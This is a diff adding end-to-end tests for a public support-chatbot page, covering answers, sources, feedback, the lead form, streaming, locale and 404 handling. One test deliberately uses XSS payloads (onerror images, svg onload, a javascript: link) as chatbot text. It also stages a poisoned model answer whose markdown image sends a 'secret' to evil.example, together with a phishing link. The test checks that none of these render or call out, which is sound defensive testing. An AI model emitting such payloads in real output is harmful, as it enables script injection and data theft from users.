@@ -1,0 +1,194 @@
+import { expect, test } from "../fixtures.ts";
+import {
+  addChatbot,
+  answers,
+  ask,
+  field,
+  newOwner,
+  openPublic,
+  publicPage,
+  RETURNS,
+  websiteUrl,
+} from "./chatbot.ts";
+import { questionFor } from "../chat-page.ts";
+
+// An answer is stored a moment after its last word: what is rated at once is sent again until then.
+test.use({ expectedErrors: [/404.*\/add-feedback/] });
+
+test("a visitor asks, follows a source, rates the answer, leaves an address and finds it all again", async ({
+  page,
+  request,
+}) => {
+  const owner = newOwner(request);
+  const chatbot = await addChatbot(owner, {
+    appearance: {
+      color: "#7c3aed",
+      welcome: "Hi from Brindille!",
+      suggestions: ["How long can I return a tool?"],
+    },
+    lead_form: { when: "during", consent: "You may write to me." },
+  });
+  await openPublic(page, chatbot);
+  await expect(page.getByRole("heading", { level: 1, name: "Brindille helper" })).toBeVisible();
+  await expect(page.getByText("Hi from Brindille!")).toBeVisible();
+  const suggestion = page.getByRole("button", { name: "How long can I return a tool?" });
+  await suggestion.click();
+  await expect(answers(page)).toHaveAttribute("data-status", "complete");
+  await expect(suggestion).toHaveCount(0);
+  await page.getByRole("button", { name: "New conversation" }).click();
+  const answer = await ask(page, RETURNS.question);
+  await expect(answer).toContainText(RETURNS.answer);
+  const source = answer.getByRole("list", { name: "Sources" }).getByRole("link");
+  await expect(source).toHaveAttribute("href", new RegExp(`^${websiteUrl()}/en/returns`));
+  await expect(source).toHaveAttribute("target", "_blank");
+  await expect(answer.getByRole("link", { name: /^Source 1: / })).toBeVisible();
+
+  await answer.getByRole("button", { name: "Not helpful" }).click();
+  await expect(answer.getByRole("textbox")).toBeFocused();
+  await answer.getByRole("textbox").fill("And gifts?");
+  await answer.getByRole("button", { name: "Send" }).click();
+  await expect(answer.getByText("Thank you for your feedback.")).toBeVisible();
+
+  await ask(page, questionFor("A second answer."));
+  await page.getByRole("button", { name: "Leave my details" }).click();
+  const form = page.getByRole("form", { name: /May we contact you/ });
+  await form.getByRole("textbox", { name: "Name" }).fill("Ada");
+  await form.getByRole("textbox", { name: "E-mail" }).fill("ada");
+  await form.getByRole("button", { name: "Send" }).click();
+  await expect(form.getByText("Enter a valid e-mail address.")).toBeVisible();
+  await form.getByRole("textbox", { name: "E-mail" }).fill("ada@visitor.example");
+  await form.getByRole("button", { name: "Send" }).click();
+  await expect(form.getByText("Your agreement is needed.")).toBeVisible();
+  await form.getByRole("checkbox").check();
+  await form.getByRole("button", { name: "Send" }).click();
+  await expect(form).toHaveCount(0);
+
+  await page.reload();
+  await expect(answers(page)).toHaveCount(2);
+  await expect(answers(page).first()).toContainText(RETURNS.answer);
+  await expect(answers(page).first().getByRole("button", { name: "Not helpful" })).toHaveAttribute(
+    "aria-pressed",
+    "true",
+  );
+  await expect(page.getByRole("form")).toHaveCount(0);
+  const { leads } = await owner.call<{ leads: object[] }>(`leads/${chatbot.id}`);
+  expect(leads).toMatchObject([{ name: "Ada", email: "ada@visitor.example", conversations: 2 }]);
+
+  await page.getByRole("button", { name: "New conversation" }).click();
+  await expect(answers(page)).toHaveCount(0);
+  await expect(field(page)).toBeFocused();
+});
+
+test(
+  "an answer goes on after a reload, and can be stopped",
+  { tag: "@desktop" },
+  async ({ page, request }) => {
+    const chatbot = await addChatbot(newOwner(request));
+    await openPublic(page, chatbot);
+    await field(page).fill("scenario:slow?tokens=60&gap=100");
+    await field(page).press("Enter");
+    await expect(answers(page)).toHaveAttribute("data-status", "streaming");
+    await expect(answers(page).locator(".answer-markdown, [dir=auto]").first()).not.toBeEmpty();
+    await page.reload();
+    await expect(answers(page)).toHaveAttribute("data-status", "streaming");
+    await page.getByRole("button", { name: "Stop", exact: true }).click();
+    await expect(page.getByText("You stopped this answer.")).toBeVisible();
+  },
+);
+
+test("a chatbot speaks French where its owner or the browser does", async ({ browser, request }) => {
+  const chatbot = await addChatbot(newOwner(request), { language: "fr" });
+  const context = await browser.newContext({ locale: "en-US" });
+  const page = await context.newPage();
+  await page.goto(`http://127.0.0.1:${process.env.E2E_PORT}${publicPage(chatbot)}`);
+  await expect(page.locator("html")).toHaveAttribute("lang", "fr");
+  await expect(page.getByText(/^Bonjour/)).toBeVisible();
+  await expect(field(page)).toHaveAttribute("placeholder", "Posez une question…");
+  await context.close();
+});
+
+test.describe("a chatbot that is not there", () => {
+  test.use({ expectedErrors: [/404/] });
+
+  test(
+    "says so with status 404, whether unknown or private",
+    { tag: "@desktop" },
+    async ({ page, request }) => {
+      const owner = newOwner(request);
+      const chatbot = await addChatbot(owner);
+      await owner.call(`chat-make-public/${chatbot.id}`, { is_public: false });
+      for (const path of [publicPage(chatbot), "/support-gpt-public/00000000-0000-4000-8000-000000000000"]) {
+        const response = await page.goto(path);
+        expect(response?.status()).toBe(404);
+        await expect(page.getByRole("heading", { name: "This chatbot is not available" })).toBeVisible();
+      }
+    },
+  );
+});
+
+test("R33, R34: a hostile name and a poisoned answer show no foreign picture or link and open no dialog", async ({
+  page,
+  request,
+}) => {
+  const foreign: string[] = [];
+  page.on("request", (sent) => {
+    if (
+      !sent.url().startsWith(`http://127.0.0.1:${process.env.E2E_PORT}`) &&
+      !/^(data|blob):/.test(sent.url())
+    )
+      foreign.push(sent.url());
+  });
+  const dialogs: string[] = [];
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const hostile = "<img src=x onerror=alert(1)><svg onload=alert(2)>";
+  const chatbot = await addChatbot(newOwner(request), {
+    name: hostile,
+    appearance: { welcome: `${hostile} [win](javascript:alert(3))`, suggestions: [hostile] },
+    lead_form: { when: "before", intro: hostile, consent: hostile },
+  });
+  await openPublic(page, chatbot);
+  await expect(page.getByRole("heading", { level: 1 })).toHaveText(hostile);
+  await page.getByRole("textbox", { name: "Name" }).fill(hostile);
+  await page.getByRole("textbox", { name: "E-mail" }).fill("eve@visitor.example");
+  await page.getByRole("checkbox", { name: hostile }).check();
+  await page.getByRole("button", { name: "Start the chat" }).click();
+  const poison = `![conversation](https://evil.example/?q=secret) [Claim your prize](https://evil.example/prize) <img src=https://evil.example/x onerror=alert(4)> <${websiteUrl()}/en/returns>`;
+  const answer = await ask(page, questionFor(poison));
+  await expect(answer).toContainText("Claim your prize");
+  const links = await answer
+    .locator("a")
+    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
+  expect(links.filter((href) => !href.startsWith(websiteUrl()))).toEqual([]);
+  await expect(answer.locator("img, iframe, svg[onload]")).toHaveCount(0);
+  await page.reload();
+  await expect(answers(page)).toContainText("Claim your prize");
+  expect(dialogs).toEqual([]);
+  expect(foreign).toEqual([]);
+});
+
+test(
+  "a user who is signed in to the product is nobody here, and stays signed in",
+  { tag: "@desktop" },
+  async ({ page, context, request }) => {
+    const { signIn, takeUser } = await import("../signed-in.ts");
+    const chatbot = await addChatbot(newOwner(request));
+    const user = takeUser("plain");
+    await signIn(context, user);
+    const bearers: (string | undefined)[] = [];
+    page.on("request", (sent) => {
+      if (sent.url().includes("/api/")) bearers.push(sent.headers()["user-id"]);
+    });
+    await page.goto("/user/dashboard");
+    const html = await (await page.goto(publicPage(chatbot)))!.text();
+    expect(html).not.toContain(user.id);
+    bearers.length = 0;
+    await ask(page, RETURNS.question);
+    expect(bearers.length).toBeGreaterThan(0);
+    expect(bearers.filter(Boolean)).toEqual([]);
+    await page.goto("/user/account");
+    await expect(page).toHaveURL(/\/user\/account/);
+  },
+);
